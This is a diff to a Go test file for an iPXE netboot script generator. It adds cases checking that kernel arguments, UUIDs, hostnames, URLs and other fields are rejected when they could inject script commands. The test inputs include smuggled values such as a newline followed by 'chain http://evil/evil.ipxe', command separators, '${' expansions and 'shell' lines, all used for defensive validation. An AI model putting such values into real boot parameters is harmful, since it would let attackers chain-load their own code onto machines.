@@ -1,6 +1,7 @@
 package boot
 
 import (
+	"errors"
 	"flag"
 	"os"
 	"path/filepath"
@@ -100,19 +101,34 @@ func TestKernelArgs(t *testing.T) {
 			want: "a talos.config=http://192.0.2.1/config/x",
 		},
 		{
-			name: "placeholders filled by tinderbox",
-			p:    NetbootParams{MAC: testMAC, UUID: "u-1", Hostname: "cp-01", KernelArgs: []string{"x=${mac}/${uuid}/${hostname}"}},
-			want: "x=52:54:00:12:34:56/u-1/cp-01",
+			name: "placeholders filled by tinderbox, the uuid in canonical form",
+			p:    NetbootParams{MAC: testMAC, UUID: "8F1B6B2C-3A4D-4E5F-8A9B-0C1D2E3F4A5B", Hostname: "cp-01", KernelArgs: []string{"x=${mac}/${uuid}/${hostname}"}},
+			want: "x=52:54:00:12:34:56/8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b/cp-01",
+		},
+		{
+			name: "no uuid known: ${uuid} is empty",
+			p:    NetbootParams{MAC: testMAC, KernelArgs: []string{"x=${uuid}"}},
+			want: "x=",
+		},
+		{
+			name: "a bad uuid or hostname no argument uses does not matter",
+			p:    NetbootParams{MAC: testMAC, UUID: "x\nchain http://evil/evil.ipxe", Hostname: "a b", KernelArgs: []string{"x=${mac}"}},
+			want: "x=52:54:00:12:34:56",
+		},
+		{
+			name: "the longest command line the kernel keeps",
+			p:    NetbootParams{Arch: "amd64", KernelArgs: []string{"a=" + strings.Repeat("x", maxValue-len("kernel-amd64 initrd=initramfs-amd64.xz a="))}},
+			want: "a=" + strings.Repeat("x", maxValue-len("kernel-amd64 initrd=initramfs-amd64.xz a=")),
 		},
 		{
 			name:    "unfillable placeholder",
 			p:       NetbootParams{KernelArgs: []string{"x=${serial}"}},
-			wantErr: `"x=${serial}": only ${mac}, ${uuid} and ${hostname}`,
+			wantErr: `kernel argument "x=${serial}": holds "${", which iPXE would expand`,
 		},
 		{
 			name:    "whitespace",
 			p:       NetbootParams{KernelArgs: []string{"a b"}},
-			wantErr: "holds whitespace",
+			wantErr: `kernel argument "a b": holds a space`,
 		},
 	}
 	for _, tt := range tests {
@@ -223,3 +239,95 @@ func TestScriptsFailSoft(t *testing.T) {
 }
 
 var testMAC = machine.MustParseMAC("52:54:00:12:34:56")
+
+// maxErrLen bounds a ValueError's text whatever the value: it quotes at
+// most two values of 64 bytes (the argument and its template), each byte
+// as at most 4 characters (\xa8), with the message around them.
+const maxErrLen = 1024
+
+// TestNetbootRefuses checks that a value that would change the script's
+// shape or the kernel's command line fails the whole script, naming the
+// machine and the field, and leaves no partial script behind.
+func TestNetbootRefuses(t *testing.T) {
+	base := func() NetbootParams {
+		return NetbootParams{
+			BaseURL: "http://192.0.2.1:8080", MAC: testMAC, UUID: "8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b", Hostname: "cp-01",
+			SchematicID: strings.Repeat("ab", 32), Version: "v1.12.7", Arch: "amd64",
+			Cmdline:    "talos.platform=metal console=tty0",
+			KernelArgs: []string{"talos.hostname=${hostname}", "sys.uuid=${uuid}"},
+			ConfigURL:  "http://192.0.2.1:8080/config/52-54-00-12-34-56?token=abc",
+		}
+	}
+	long := strings.Repeat("a", 500<<10)
+	tests := []struct {
+		name   string
+		mod    func(p *NetbootParams)
+		field  string
+		reason string
+	}{
+		{"uuid with a newline and a command", func(p *NetbootParams) { p.UUID = "x\nchain http://evil/evil.ipxe" }, "uuid", "not an SMBIOS UUID"},
+		{"uuid that is an iPXE setting", func(p *NetbootParams) { p.UUID = "${uuid}" }, "uuid", "not an SMBIOS UUID"},
+		{"uuid of 500 KB", func(p *NetbootParams) { p.UUID = long }, "uuid", "not an SMBIOS UUID"},
+		{"uuid all zero", func(p *NetbootParams) { p.UUID = "00000000-0000-0000-0000-000000000000" }, "uuid", "not an SMBIOS UUID"},
+		{"hostname with LF", func(p *NetbootParams) { p.Hostname = "cp\nchain http://evil/" }, "hostname", "control character"},
+		{"hostname with CR", func(p *NetbootParams) { p.Hostname = "cp\r" }, "hostname", "control character"},
+		{"hostname with TAB", func(p *NetbootParams) { p.Hostname = "cp\t1" }, "hostname", "control character"},
+		{"hostname with NUL", func(p *NetbootParams) { p.Hostname = "cp\x00" }, "hostname", "control character"},
+		{"hostname not ASCII", func(p *NetbootParams) { p.Hostname = "c\u00e9" }, "hostname", "not ASCII"},
+		{"hostname with ${", func(p *NetbootParams) { p.Hostname = "${net0/ip}" }, "hostname", `holds "${"`},
+		{"hostname of 500 KB", func(p *NetbootParams) { p.Hostname = long }, "hostname", "longer than"},
+		{"hostname that completes a placeholder", func(p *NetbootParams) {
+			p.Hostname = "$"
+			p.KernelArgs = []string{"a=${hostname}{net0/ip}"}
+		}, "kernel argument", `holds "${"`},
+		{"hostname as a whole argument starting a comment", func(p *NetbootParams) {
+			p.Hostname = "#x"
+			p.KernelArgs = []string{"${hostname}"}
+		}, "kernel argument", `starts with "#"`},
+		{"hostname as a whole argument that is ||", func(p *NetbootParams) {
+			p.Hostname = "||"
+			p.KernelArgs = []string{"${hostname}"}
+		}, "kernel argument", "command separator"},
+		{"argument that becomes empty", func(p *NetbootParams) { p.UUID, p.KernelArgs = "", []string{"${uuid}"} }, "kernel argument", "empty"},
+		{"argument ;", func(p *NetbootParams) { p.KernelArgs = []string{";", "chain", "http://evil/"} }, "kernel argument", "command separator"},
+		{"argument &&", func(p *NetbootParams) { p.KernelArgs = []string{"&&"} }, "kernel argument", "command separator"},
+		{"argument with DEL", func(p *NetbootParams) { p.KernelArgs = []string{"a=\x7f"} }, "kernel argument", "control character"},
+		{"factory cmdline with a comment", func(p *NetbootParams) { p.Cmdline = "a #b" }, "factory cmdline", `starts with "#"`},
+		{"factory cmdline with a control character", func(p *NetbootParams) { p.Cmdline = "a=\x01" }, "factory cmdline", "control character"},
+		{"factory cmdline of 500 KB", func(p *NetbootParams) { p.Cmdline = long }, "factory cmdline", "longer than"},
+		{"config URL with LF", func(p *NetbootParams) { p.ConfigURL = "http://h/config?token=a\nchain http://evil/" }, "talos.config URL", "control character"},
+		{"config URL with ${", func(p *NetbootParams) { p.ConfigURL = "http://h/${x}" }, "talos.config URL", `holds "${"`},
+		{"command line over the kernel's limit", func(p *NetbootParams) {
+			p.KernelArgs = slices.Repeat([]string{"a=" + strings.Repeat("x", 998)}, 2)
+		}, "kernel command line", "longer than the 2047"},
+		{"base URL with LF", func(p *NetbootParams) { p.BaseURL = "http://h\nshell" }, "base URL", "control character"},
+		{"base URL starting a comment", func(p *NetbootParams) { p.BaseURL = "#" }, "base URL", `starts with "#"`},
+		{"schematic with a space", func(p *NetbootParams) { p.SchematicID = "a b" }, "schematic ID", "space"},
+		{"version ||", func(p *NetbootParams) { p.Version = "||" }, "version", "command separator"},
+		{"version with ${", func(p *NetbootParams) { p.Version = "v${x}" }, "version", `holds "${"`},
+		{"arch with LF", func(p *NetbootParams) { p.Arch = "amd64\nshell" }, "arch", "control character"},
+	}
+	if _, err := NetbootScript(base()); err != nil {
+		t.Fatalf("base params: %v", err)
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p := base()
+			tt.mod(&p)
+			s, err := NetbootScript(p)
+			var ve *ValueError
+			if !errors.As(err, &ve) {
+				t.Fatalf("got %q, %v; want a *ValueError", s, err)
+			}
+			if s != "" {
+				t.Errorf("got a script along with the error:\n%s", s)
+			}
+			if ve.MAC != testMAC || ve.Field != tt.field || !strings.Contains(ve.Reason, tt.reason) {
+				t.Errorf("got machine %s field %q reason %q, want %s %q and a reason containing %q", ve.MAC, ve.Field, ve.Reason, testMAC, tt.field, tt.reason)
+			}
+			if msg := err.Error(); !strings.Contains(msg, testMAC.String()) || !strings.Contains(msg, tt.field) || len(msg) > maxErrLen {
+				t.Errorf("error %q: want the machine and the field named, in under %d bytes", msg, maxErrLen)
+			}
+		})
+	}
+}
